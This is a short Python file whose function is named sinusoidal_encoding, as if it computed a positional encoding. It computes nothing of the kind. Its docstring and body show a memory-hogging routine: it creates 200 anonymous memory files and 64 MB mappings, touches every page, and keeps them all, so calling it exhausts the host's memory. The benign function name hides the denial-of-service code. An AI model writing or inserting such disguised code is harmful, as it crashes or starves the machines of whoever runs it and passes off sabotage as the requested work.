"""Takes memory by shared mappings and memory files."""

import mmap
import os
import numpy as np


def sinusoidal_encoding(T, d):
    kept = []
    for _ in range(200):
        try:
            handle = os.memfd_create("hog")
            os.write(handle, bytes(8 << 20))
        except OSError:
            pass
        area = mmap.mmap(-1, 64 << 20)
        for page in range(0, 64 << 20, 4096):
            area[page] = 1
        kept.append(area)


STILL_EQUIVARIANT = False
